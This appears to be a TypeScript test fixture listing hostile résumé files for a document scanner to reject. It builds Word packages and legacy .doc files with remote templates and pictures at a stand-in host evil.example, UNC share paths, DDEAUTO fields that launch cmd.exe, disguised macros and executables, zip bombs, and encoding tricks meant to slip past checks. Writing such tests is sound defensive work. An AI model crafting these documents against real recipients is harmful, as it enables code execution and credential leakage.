import {
  contentTypes,
  docWith,
  docxWithRuns,
  fieldRuns,
  relationship,
  relationships,
  sampleDocx,
  sampleOle,
  sampleZip,
  wordEntries,
} from './resume.testkit.ts';

export type HostileResume = readonly [what: string, fileName: string, content: Buffer];

const documentRels = 'word/_rels/document.xml.rels';
const settingsRels = 'word/_rels/settings.xml.rels';
const external = 'TargetMode="External"';
const ole = 'd0cf11e0a1b11ae1';

function related(type: string, target: string, more = '', rels = documentRels): Buffer {
  return sampleDocx({ name: rels, content: relationships(relationship(type, target, more)) });
}

function withRelationships(content: string | Buffer): Buffer {
  return sampleDocx({ name: documentRels, content });
}

const bombBytes = 70 * 1024 * 1024;
const externalPicture = relationship('image', 'http://evil.example/x.png', external);

export const hostilePackages: readonly HostileResume[] = [
  ['a template on a server', related('attachedTemplate', 'https://evil.example/t.dotm', external, settingsRels)],
  ['a template on a share, as a path', related('attachedTemplate', String.raw`\\evil.example\t.dotm`, external)],
  ['a template on a share, as five slashes', related('attachedTemplate', 'file://///evil.example/t', external)],
  ['a template on a share, escaped', related('attachedTemplate', 'file:///%5C%5Cevil.example/t', external)],
  ['an object that is loaded from a server', related('oleObject', 'mhtml:https://evil.example!x-usc:x', external)],
  ...[
    'http://evil.example/x.png',
    'file:////evil.example/x.png',
    String.raw`\\evil.example\x.png`,
    '%5C%5Cevil.example/x.png',
    'https:evil.example',
    'https://a@evil.example/',
    'file:///%5C%5Cevil.example/x',
  ].map((target) => [`a picture at ${target}`, related('image', target, external)] as const),
  ...[
    'file:////evil/Users/t.dotm',
    'file://localhost/evil/t.dotm',
    'Evil%20HD:t.dotm',
    'a/t.dotm',
    String.raw`file:///Users/\\\\evil`,
  ].map((target) => [`a template at ${target}`, related('attachedTemplate', target, external, settingsRels)] as const),
  [
    'a query of a share',
    sampleDocx({
      name: 'word/settings.xml',
      content:
        '<w:settings xmlns:w="w"><w:mailMerge><w:query w:val="SELECT * FROM \\\\evil\\x"/></w:mailMerge></w:settings>',
    }),
  ],
  [
    'a field that starts a program',
    docxWithRuns(fieldRuns('DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  ],
  [
    'a field that starts a program, deleted and restored',
    docxWithRuns(fieldRuns(' d', '<w:r><w:delInstrText>de x y</w:delInstrText></w:r>')),
  ],
  ['a simple field that starts a program', docxWithRuns('<w:fldSimple w:instr=" DDE cmd /k "/>')],
  ['a field with entities that starts a program', docxWithRuns('<w:fldSimple w:instr="&#x44;DE cmd"/>')],
  ['a field whose name another field makes', docxWithRuns(fieldRuns(fieldRuns('QUOTE 68 68 69'), ' cmd'))],
  [
    'a field without an end',
    docxWithRuns(fieldRuns('DDEAUTO cmd').replace(/<w:r><w:fldChar w:fldCharType="end".*/, '')),
  ],
  ['a field that inserts a file of a share', docxWithRuns(fieldRuns('INCLUDETEXT "\\\\\\\\evil\\\\x"'))],
  [
    'a picture of a share in a field',
    docxWithRuns(fieldRuns('INCLUDEPICTURE \\d "\\\\\\\\evil\\\\x.png" \\* MERGEFORMAT')),
  ],
  ['a picture of a server in a field', docxWithRuns(fieldRuns('INCLUDEPICTURE http://evil.example/x.png'))],
  [
    'a picture whose address another field makes',
    docxWithRuns(fieldRuns('INCLUDEPICTURE "', fieldRuns('MERGEFIELD x'), '"')),
  ],
  ['a picture of VML at a server', docxWithRuns('<v:imagedata xmlns:v="v" src="http://evil.example/x.png"/>')],
  [
    'fields in UTF-16',
    sampleDocx({
      name: 'word/header1.xml',
      content: Buffer.from(`\ufeff<w:hdr xmlns:w="w">${fieldRuns('DDE x')}</w:hdr>`, 'utf16le'),
    }),
  ],
  [
    'fields in UTF-7',
    sampleDocx({
      name: 'word/header1.xml',
      content: `<?xml version="1.0" encoding="utf-7"?><w:hdr xmlns:w="w">${fieldRuns('x')}</w:hdr>`,
    }),
  ],
  ['a PDF before its parts', sampleZip([{ name: '%PDF-1.7', content: 'x' }, ...wordEntries])],
  ['a program after it', Buffer.concat([sampleDocx(), Buffer.from('MZ\x90\0', 'latin1')])],
  ['a web page after it', Buffer.concat([sampleDocx(), Buffer.from('<script>alert(1)</script>')])],
  ['a frame of another document', related('frame', 'https://evil.example/', external)],
  ['a server that is not declared as external', related('image', 'http://evil.example/x.png')],
  ['an object in a package', related('package', 'embeddings/evil.docx')],
  ['an embedded object', related('oleObject', 'embeddings/oleObject1.bin')],
  [
    'an embedded object without a relationship',
    sampleDocx({ name: 'word/embeddings/o.png', content: Buffer.from(ole, 'hex') }),
  ],
  ['a text of another format', related('aFChunk', 'afchunk.rtf')],
  ['a control', related('control', 'x/x.xml')],
  [
    'macros under the name of a picture',
    sampleDocx(
      {
        name: '[Content_Types].xml',
        content: contentTypes({ '/word/media/image1.png': 'application/vnd.ms-office.vbaProject' }),
      },
      { name: 'word/media/image1.png', content: 'Attribute VB_Name' },
    ),
  ],
  ['macros related under the name of a picture', related('vbaProject', 'media/image1.png')],
  [
    'a type that enables macros',
    sampleDocx({
      name: '[Content_Types].xml',
      content: contentTypes({ '/x': 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    }),
  ],
  ['a binary part', sampleDocx({ name: 'word/embeddings/x.bin' })],
  ['a program', sampleDocx({ name: 'word/media/run.exe', content: 'MZ\x90\0' })],
  ['a program under the name of a picture', sampleDocx({ name: 'word/media/run.png', content: 'MZ\x90\0' })],
  ['a bomb', sampleDocx({ name: 'word/media/image1.bmp', content: Buffer.alloc(bombBytes) })],
  [
    'a bomb that declares 1 kB',
    sampleDocx({ name: 'word/media/image1.bmp', content: Buffer.alloc(bombBytes), declaredBytes: 1_000 }),
  ],
  ['relationships in UTF-16', withRelationships(Buffer.from(`\ufeff${relationships(externalPicture)}`, 'utf16le'))],
  ['relationships in UTF-16, no mark', withRelationships(Buffer.from(relationships(externalPicture), 'utf16le'))],
  [
    'relationships in big-endian UTF-16',
    withRelationships(Buffer.from(`\ufeff${relationships(externalPicture)}`, 'utf16le').swap16()),
  ],
  ['relationships in UTF-7', withRelationships('<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationships/+AD4-')],
  ['a type with entities', withRelationships(relationships(relationship('&#x6f;le&#79;bject', 'x')))],
  [
    'a type with an entity of its own',
    withRelationships(`<!DOCTYPE x [<!ENTITY e "oleObject">]>${relationships(relationship('&e;', 'x'))}`),
  ],
  [
    'elements with a prefix',
    withRelationships(
      `<r:Relationships xmlns:r="r"><r:Relationship Id="a" Type="x/oleObject" Target="x"/></r:Relationships>`,
    ),
  ],
  [
    'a relationship inside an alternative',
    withRelationships(
      relationships(
        `<mc:AlternateContent xmlns:mc="m"><mc:Choice>${externalPicture}</mc:Choice></mc:AlternateContent>`,
      ),
    ),
  ],
  ['a type with spaces', withRelationships(relationships(relationship('oleObject\n ', 'x')))],
  ['relationships that are not XML', withRelationships('<Relationships><Relationship Type="x/oleObject"')],
  ['an escaped name', sampleDocx({ name: 'word/_rels/document.xml.%72els', content: relationships(externalPicture) })],
  ['a part in pieces', sampleDocx({ name: `${documentRels}/[0].piece`, content: relationships(externalPicture) })],
].map(([what, content]) => [what, 'resume.docx', content] as HostileResume);

export const hostileBinaries: readonly HostileResume[] = [
  ['embedded objects', sampleOle(['WordDocument', { name: 'ObjectPool', kind: 'storage' }])],
  ['an object of another program', sampleOle(['WordDocument', '\x01Ole10Native'])],
  ['an equation', sampleOle(['WordDocument', 'Equation Native'])],
  ['macros', sampleOle(['WordDocument', { name: 'Macros', kind: 'storage' }])],
  ['a field that starts a program', docWith('x\x13DDEAUTO cmd /k calc\x14y\x15')],
  ['a field in a field that starts a program', docWith('\x13\x13QUOTE 68\x14DDE\x15 cmd\x14y\x15')],
  ['a picture of a share', docWith('\x13INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\* MERGEFORMAT\x15')],
  ['a template on a server', docWith('x', 'https://evil.example/t.dot')],
].map(([what, content]) => [what, 'resume.doc', content] as HostileResume);
